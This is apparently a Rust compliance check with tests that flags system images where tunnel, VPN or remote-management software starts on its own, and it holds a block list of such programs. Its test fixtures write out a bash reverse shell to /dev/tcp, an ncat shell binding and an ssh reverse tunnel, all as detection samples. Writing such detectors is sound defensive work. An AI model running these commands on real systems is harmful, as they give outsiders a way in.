//! ACC-11: nothing on the image gives the seller a way in: tunnels to outside, meshes, remote management.
//!
//! What starts by itself fails. That nothing does is no proof, so a person confirms the rest.

use std::path::{Path, PathBuf};

use crate::check::{Finding, Observation, Status, places};
use crate::image::units::{State, Unit};
use crate::image::{Error, Image, Kind};

/// Units of programs that let somebody in from outside, or join a network of the seller's. `*` at the end matches any
/// rest.
const UNITS: [&str; 52] = [
    "tailscaled",
    "zerotier-one",
    "netbird",
    "netclient",
    "nebula*",
    "twingate*",
    "husarnet*",
    "headscale",
    "tinc*",
    "wg-quick@*",
    "openvpn@*",
    "openvpn-client@*",
    "strongswan*",
    "ipsec",
    "vpnc*",
    "openconnect*",
    "softether*",
    "autossh*",
    "ngrok*",
    "cloudflared*",
    "frpc*",
    "chisel*",
    "inlets*",
    "bore*",
    "rathole*",
    "sshuttle*",
    "pagekite*",
    "localtunnel*",
    "teamviewerd",
    "anydesk",
    "rustdesk",
    "meshagent",
    "meshcentral",
    "tacticalagent",
    "dwagent*",
    "remoteit*",
    "connectd*",
    "splashtop*",
    "srstreamer",
    "connectwisecontrol*",
    "screenconnect*",
    "ninjarmm-agent",
    "ninjarmm-ncstreamer",
    "atera*",
    "kaseya*",
    "ltechagent",
    "n-central*",
    "teleport",
    "boundary-worker",
    "salt-minion",
    "puppet",
    "chef-client",
];

/// Where commands stand that run by themselves.
const TABLES: [&str; 13] = [
    "/etc/crontab",
    "/etc/cron.d/*",
    "/etc/cron.{hourly,daily,weekly,monthly}/*",
    "/var/spool/cron/*",
    "/var/spool/cron/{crontabs,tabs}/*",
    "/etc/anacrontab",
    "/etc/rc.local",
    "/etc/rc.d/rc.local",
    "/etc/inittab",
    "/etc/profile.d/*",
    "/etc/systemd/user/*.service",
    "~/.config/systemd/user/*.service",
    "/var/lib/cloud/scripts/per-{boot,instance,once}/*",
];

/// Words of commands that open a way in; the first of a line.
const PROGRAMS: [&str; 11] = [
    "autossh",
    "ngrok",
    "cloudflared",
    "frpc",
    "chisel",
    "inlets",
    "tailscale",
    "zerotier-cli",
    "sshuttle",
    "tmate",
    "ssh-import-id",
];

/// The largest file that is taken for a unit or a table of commands, in bytes.
const LARGEST: u64 = 1 << 20;

pub(super) fn check(image: &Image) -> Result<Finding, Error> {
    let (mut on, mut off) = (Vec::new(), Vec::new());
    let units = image.units()?;
    for unit in &units.units {
        let what = if is_named(&unit.name) { Some("lets somebody in from outside") } else { opens(image, unit)? };
        let Some(what) = what else { continue };
        let seen = |text: String| {
            let paths = if unit.enabled_by.is_empty() { vec![unit.path.clone()] } else { unit.enabled_by.clone() };
            paths.into_iter().map(move |path| Observation::at(path).text(text.clone())).collect::<Vec<_>>()
        };
        // A timer, socket or path of the same name starts it as well.
        let stem = unit.name.strip_suffix(".service").unwrap_or(&unit.name);
        let starters = ["timer", "socket", "path"].map(|kind| format!("{stem}.{kind}"));
        let starter = starters.iter().filter_map(|name| units.unit(name)).find(|unit| unit.state == State::Enabled);
        if let Some(starter) = starter.filter(|_| unit.state != State::Enabled && unit.state != State::Masked) {
            let text = format!("{} starts {}, which {what}", starter.name, unit.name);
            on.extend(starter.enabled_by.iter().map(|path| Observation::at(path).text(text.clone())));
            continue;
        }
        match unit.state {
            State::Enabled => on.extend(seen(format!("{} is enabled and {what}", unit.name))),
            State::Disabled | State::Static | State::Other => {
                off.extend(seen(format!("{} is there, not enabled", unit.name)));
            }
            State::Masked | State::Missing => {}
        }
    }
    for path in places::matching(image, &TABLES.map(str::to_owned), &[])? {
        let text = small_text(image, &path)?;
        let numbered = (1_u32..).zip(text.lines());
        let meant = numbered.filter(|(_, line)| tunnel(line).is_some());
        on.extend(meant.map(|(line, text)| Observation::at(&path).line(line).text(tunnel(text).unwrap_or_default())));
    }
    Ok(if !on.is_empty() {
        Finding::new(Status::Fail, "The image opens a way in from outside by itself.").seen(on).seen(off)
    } else if !off.is_empty() {
        Finding::new(Status::Attest, "Programs that open a way in from outside are installed; none starts by itself.")
            .seen(off)
    } else {
        Finding::new(Status::Attest, "Nothing that is known to open a way in from outside starts by itself.")
    })
}

fn is_named(name: &str) -> bool {
    UNITS.iter().any(|wanted| match wanted.strip_suffix('*') {
        Some(start) => name.starts_with(start) && name.ends_with(".service"),
        None => name.strip_suffix(".service") == Some(wanted),
    })
}

/// What the administrator's own unit runs that opens a way in.
fn opens(image: &Image, unit: &Unit) -> Result<Option<&'static str>, Error> {
    let is_own = unit.path.starts_with("/etc/systemd") || unit.path.starts_with("/usr/local");
    if !is_own || unit.state == State::Masked {
        return Ok(None);
    }
    let text = small_text(image, &unit.path)?;
    let commands = text.lines().filter_map(|line| line.trim_start().strip_prefix("Exec")?.split_once('='));
    Ok(commands.map(|(_, command)| command).find_map(tunnel))
}

/// The text of a regular file; empty for anything else and for what is too large to be a table of commands.
fn small_text(image: &Image, path: &Path) -> Result<String, Error> {
    match image.stat(path)? {
        Some(meta) if meta.kind == Kind::File && meta.size <= LARGEST => Ok(image.read_text(path)?.unwrap_or_default()),
        _ => Ok(String::new()),
    }
}

/// What a command does that opens a way in: a reverse tunnel of ssh's (`-R`), a shell bound to a connection, or one of
/// [`PROGRAMS`].
fn tunnel(line: &str) -> Option<&'static str> {
    let line = line.trim();
    if line.starts_with('#') {
        return None;
    }
    let name = |word: &str| {
        let word =
            word.trim_start_matches(['-', '@', '+', '!', ':']).trim_matches(['"', '\'', ';', '&', '|', '(', ')']);
        PathBuf::from(word).file_name().map(|name| name.to_string_lossy().into_owned()).unwrap_or_default()
    };
    let words: Vec<&str> = line.split_whitespace().collect();
    let is_rsync = words.iter().any(|word| name(word) == "rsync");
    for (at, word) in words.iter().enumerate() {
        let program = name(word);
        let options = words.get(at + 1..).unwrap_or_default();
        match program.as_str() {
            "ssh" if !is_rsync && is_reverse(options) => return Some("a reverse tunnel of ssh's"),
            "nc" | "ncat" | "netcat"
                if options.iter().any(|option| matches!(*option, "-e" | "-c" | "--exec" | "--sh-exec")) =>
            {
                return Some("binds a shell to a connection");
            }
            program if PROGRAMS.contains(&program) => return Some("runs a program that opens a tunnel"),
            _ => {}
        }
    }
    let is_shell = ["/dev/tcp/", "/dev/udp/"].iter().any(|device| line.contains(device)) && line.contains("sh");
    is_shell.then_some("binds a shell to a connection")
}

/// Whether ssh(1) with these arguments forwards a port of the other side: `-R`, `-fNR`, `-R8022:localhost:22`,
/// `-o RemoteForward=…`, before the host or right behind it.
fn is_reverse(arguments: &[&str]) -> bool {
    let mut hosts = 0;
    let mut rest = arguments.iter();
    while let Some(argument) = rest.next() {
        let Some(letters) = argument.strip_prefix('-') else {
            hosts += 1;
            if hosts > 1 {
                return false;
            }
            continue;
        };
        let option = letters.trim_start_matches(|letter: char| "46AaCfGgKkMNnqsTtVvXxYy".contains(letter));
        let Some(letter) = option.chars().next() else { continue };
        // The value is the rest of the word, or the next one.
        let value = match option.get(letter.len_utf8()..).unwrap_or_default() {
            "" => rest.next().copied().unwrap_or_default(),
            value => value,
        };
        if letter == 'R' || (letter == 'o' && value.to_ascii_lowercase().starts_with("remoteforward")) {
            return true;
        }
    }
    false
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::change::trial::remedy_of;
    use crate::change::{Change, Remedy};
    use crate::check::trial::judged;
    use crate::image::fixture::Fixture;

    fn unit(fixture: &Fixture, path: &str, text: &str, enabled: bool) {
        fixture.file(path, format!("[Service]\n{text}\n[Install]\nWantedBy=multi-user.target\n"));
        let name = path.rsplit('/').next().unwrap();
        if enabled {
            fixture.link(&format!("/etc/systemd/system/multi-user.target.wants/{name}"), path);
        }
    }

    #[test]
    fn without_any_a_person_confirms_and_is_told_what_is_installed() {
        let fixture = Fixture::debian();
        let finding = judged(&fixture.image(), "ACC-11");
        assert_eq!((finding.status, finding.observations.len()), (Status::Attest, 0));
        unit(&fixture, "/usr/lib/systemd/system/tailscaled.service", "ExecStart=/usr/sbin/tailscaled", false);
        let finding = judged(&fixture.image(), "ACC-11");
        assert_eq!((finding.status, finding.observations.len()), (Status::Attest, 1));
    }

    #[test]
    fn a_known_program_that_starts_fails_and_is_masked() {
        let fixture = Fixture::debian();
        unit(&fixture, "/usr/lib/systemd/system/tailscaled.service", "ExecStart=/usr/sbin/tailscaled", true);
        assert_eq!(judged(&fixture.image(), "ACC-11").status, Status::Fail);
        let Some(Remedy::Changes(changes)) = remedy_of(&fixture.image(), "ACC-11") else { panic!("a mask") };
        let Change::Path { path, .. } = &changes[0] else { panic!("{changes:?}") };
        assert_eq!(path, Path::new("/etc/systemd/system/tailscaled.service"));
    }

    #[test]
    fn a_unit_of_the_publishers_that_tunnels_back_fails() {
        let fixture = Fixture::debian();
        let command = "ExecStart=/usr/bin/ssh -N -o ServerAliveInterval=30 -R 2222:localhost:22 tunnel@support.example";
        unit(&fixture, "/etc/systemd/system/support.service", command, true);
        let finding = judged(&fixture.image(), "ACC-11");
        assert_eq!(finding.status, Status::Fail, "{finding:?}");
        assert!(!format!("{finding:?}").contains("support.example"));
    }

    #[test]
    fn a_timer_that_starts_a_tunnel_fails_and_is_disabled_for_it_was_written_here() {
        let fixture = Fixture::debian();
        fixture
            .file("/etc/systemd/system/support.service", "[Service]\nExecStart=/usr/bin/ssh -NR 22:localhost:22 h\n");
        let finding = judged(&fixture.image(), "ACC-11");
        assert_eq!((finding.status, finding.observations.len()), (Status::Attest, 1));
        fixture
            .file("/etc/systemd/system/support.timer", "[Timer]\nOnBootSec=60\n[Install]\nWantedBy=timers.target\n")
            .link("/etc/systemd/system/timers.target.wants/support.timer", "../support.timer");
        assert_eq!(judged(&fixture.image(), "ACC-11").status, Status::Fail);
        let Some(Remedy::Changes(changes)) = remedy_of(&fixture.image(), "ACC-11") else { panic!("a change") };
        let [Change::Path { path, after: None, .. }] = changes.as_slice() else { panic!("{changes:?}") };
        assert_eq!(path, Path::new("/etc/systemd/system/timers.target.wants/support.timer"));
    }

    #[test]
    fn a_line_of_cron_fails_and_is_a_persons() {
        let fixture = Fixture::debian();
        fixture.file("/etc/cron.d/x", "# autossh\n@reboot root autossh -M 0 -fNR 22:localhost:22 me@host\n");
        let finding = judged(&fixture.image(), "ACC-11");
        assert_eq!((finding.status, finding.observations[0].line), (Status::Fail, Some(2)));
        assert!(matches!(remedy_of(&fixture.image(), "ACC-11"), Some(Remedy::ByHand(_))));
    }

    #[test]
    fn commands_are_told_apart() {
        for line in [
            "ssh -R 1:b:2 h",
            "/usr/bin/ssh -fNTR 8022:localhost:22 h",
            "* * * * * root ssh -o RemoteForward=8022 h",
            "-/usr/local/bin/ngrok tcp 22",
            "bash -i >& /dev/tcp/203.0.113.5/443 0>&1",
            "ssh-import-id gh:somebody",
            "ncat -l 4444 -e /bin/sh",
            "0 * * * * root /usr/bin/cloudflared tunnel run",
        ] {
            assert!(tunnel(line).is_some(), "{line}");
        }
        for line in [
            "ssh -L 1:b:2 h",
            "# ssh -R x",
            "ssh host Rscript",
            "ssh host ls -R",
            "rsync -e ssh -R a b:c",
            "scp -r x y",
            "chiselled",
        ] {
            assert!(tunnel(line).is_none(), "{line}");
        }
    }

    #[test]
    fn a_table_that_cannot_be_read_is_unknown() {
        let fixture = Fixture::debian();
        fixture.link("/etc/cron.d/loop", "loop");
        assert_eq!(judged(&fixture.image(), "ACC-11").status, Status::Unknown);
    }

    proptest::proptest! {
        #[test]
        fn any_line_is_read_without_a_panic(line in "\\PC{0,80}") {
            let _ = tunnel(&line);
        }
    }
}
